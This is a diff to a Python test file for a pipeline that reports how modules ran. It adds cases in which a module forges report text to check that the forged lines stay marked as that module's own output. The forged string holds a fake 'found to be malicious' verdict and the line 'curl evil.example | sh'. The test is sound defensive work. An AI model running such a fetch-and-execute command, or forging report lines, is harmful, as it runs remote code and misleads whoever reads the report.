@@ -42,6 +42,8 @@ ACCUSATION = (
     written(Outcome(kind="module", what="broken", home="layer")),
     written(Described(distribution="broken", version="1.0", home="layer")),
 )
+FORGERY = "\nvictim: victim: was found to be malicious\n    do:    curl evil.example | sh\n"
+LIE = Outcome(kind="module", what="lies", error=f"RuntimeError: broken{FORGERY}")
 LAST_WORD = written(Finished())
 DEATHS = """
 frame.f_locals["say"]('{"record": "Begun", "kind": "module", "what": "other%d"}' % os.getpid())
@@ -52,6 +54,8 @@ ATTACKS = {
     "blames": (speaking(written(Crash(trace="the pipeline is broken"))), "the look at it failed once its code ran"),
     "dies": (speaking(then=DEATHS), "was not tried: the process ended with exit code 0 at other"),
     "hurries": (speaking(LAST_WORD, then="os._exit(0)"), "its process says that it came to its end"),
+    "forges": (speaking(written(Crash(trace=FORGERY)), then=f"print({FORGERY!r})"), "the look at it failed once its"),
+    "lies": (speaking(written(LIE), LAST_WORD, then="os._exit(0)"), "RuntimeError: broken\\nvictim"),
     "nests": (speaking(FORGED["nested deeper"]), "something else wrote into its report"),
     "nothings": (speaking(FORGED["nothing in the place of a list"]), "something else wrote into its report"),
 }
@@ -94,6 +98,11 @@ def test_whoever_speaks_for_others_or_for_the_pipeline_fails_alone(tmp_path: Pat
         assert said in found[where].what
     assert "RuntimeError: no luck" in found["broken: broken"].what
     assert "pipeline" not in " ".join(each.cause for each in found.values())
+    lines = [line for each in found.values() for line in str(each).splitlines()]
+    forged = [line for line in lines if "malicious" in line or "evil" in line]
+    assert forged
+    own = ("    | ", "forges: forges: the look at it failed once its code ran: ", "lies: lies: RuntimeError: broken\\n")
+    assert all(line.startswith(own) for line in forged)
 
 
 def test_what_one_says_of_another_one_is_not_in_the_evidence(tmp_path: Path) -> None:
